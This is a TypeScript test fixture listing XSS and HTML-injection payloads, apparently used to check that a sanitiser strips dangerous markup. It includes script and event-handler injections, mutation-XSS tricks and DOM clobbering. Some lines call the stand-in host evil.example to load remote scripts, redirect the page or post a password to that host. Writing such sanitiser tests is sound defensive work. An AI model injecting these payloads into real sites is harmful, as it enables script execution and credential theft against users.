/**
 * Markup that runs, frames, restyles, redirects or overrides names when a page shows it unsanitised. It was collected from the
 * cheat sheets of OWASP and PortSwigger and from advisories of HTML sanitisers. A call of `alert` means that one ran.
 */
export const unsafeHtml: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script from elsewhere, in mixed case': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script after the end of the article': '</article></main></body><script>alert(1)</script>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'slashes for blanks': '<img/src="x"/onerror=alert(1)>',
  'a handler in mixed case': '<img src="x" OnErRoR = "alert(1)">',
  'a picture that is a document': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a set of pictures': '<img src=x srcset="https://evil.example/pixel 1x">',
  'a drawing that loads': '<svg onload=alert(1)></svg>',
  'a script in a drawing': '<svg><script>alert(1)</script></svg>',
  'a link in a drawing': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'an animation that begins': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  'an animation of an address':
    '<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>',
  'a formula that turns into markup':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a formula with a style': '<math></p><style><!--</style><img src/onerror=alert(1)>',
  'noscript that ends in an attribute':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a text box that ends in an attribute':
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'an example that ends in an attribute': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a template':
    '<template><script>alert(1)</script></template><div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'a comment that is none': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends early': '<!-- --!><img src=x onerror=alert(1)> -->',
  'text without end': '<plaintext><script>alert(1)</script>',
  'a link that runs': '<a href="javascript:alert(1)">x</a>',
  'a link that runs, written in entities': '<a href="JaVaScRiPt&colon;alert&lpar;1&rpar;">x</a>',
  'a link that runs, without semicolons': '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  'a link that runs, over two lines': '<a href="java&#10;script:alert(1)">x</a>',
  'a link that runs, after a control character': '<a href=" &#14; javascript:alert(1)">x</a>',
  'a link to data': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a link in another language': '<a href="vbscript:alert(1)">x</a>',
  'a link with a handler':
    '<a href="https://example.org/" onmouseover=alert(1) onfocus=alert(1) autofocus>x</a>',
  'a frame with a document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'a frame that runs': '<iframe src="javascript:parent.alert(1)"></iframe>',
  'a frame of another host': '<iframe src="https://evil.example/"></iframe>',
  'a frame of a host that looks right':
    '<iframe src="https://www.youtube-nocookie.com@evil.example/"></iframe>',
  'a frame of a host that begins right': '<iframe src="//player.vimeo.com.evil.example/"></iframe>',
  'a frame of the same site': '<iframe src="/admin"></iframe>',
  frames: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'another base': '<base href="https://evil.example/">',
  'a way elsewhere': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a style sheet from elsewhere': '<link rel=stylesheet href="https://evil.example/x.css">',
  'a style sheet': '<style>* { display: none !important } @import "https://evil.example/x.css";</style>',
  'a style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
  'a form':
    '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
  'a button with an action': '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
  'a field that takes the focus': '<input autofocus onfocus=alert(1)>',
  'details that open': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a film that fails': '<video autoplay onloadstart=alert(1)><source src=x onerror=alert(1)></video>',
  'a sound that fails': '<audio src=x onerror=alert(1)></audio>',
  'an object': '<object data="javascript:alert(1)"></object>',
  'an embedded document': '<embed src="data:text/html,<script>alert(1)</script>">',
  'text that walks': '<marquee onstart=alert(1) onfinish=alert(1) loop=1>x</marquee>',
  'a body': '<body onload=alert(1) onpageshow=alert(1)>',
  'an unknown element': '<x-y tabindex=1 autofocus onfocus=alert(1)>x</x-y>',
  'a choice with a frame': '<select><iframe onload=alert(1)></iframe></select>',
  'an animated style': '<p onanimationstart=alert(1) ontransitionend=alert(1) style="animation:x 1s">x</p>',
  'names of the document':
    '<img name=getElementById><img name=body><form name=forms><input name=attributes></form>',
  'names of the page':
    '<p id=main class=site-header name=config>x</p><a id=location href="https://evil.example/">x</a>',
  'a heading with a handler': '<h2 onclick=alert(1) id="</h2><script>alert(1)</script>">x</h2>',
  'a heading that is written as markup':
    '<h2>&lt;img src=x onerror=alert(1)&gt;</h2><h2>Two &amp;lt;script&gt;</h2>',
  'markup written as text':
    '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
};

/** Harmless markup that sanitising must keep. */
export const plainHtml =
  '<h2>Who we are</h2><p><strong>Bold</strong> and <a href="https://example.org/">a link</a></p>';
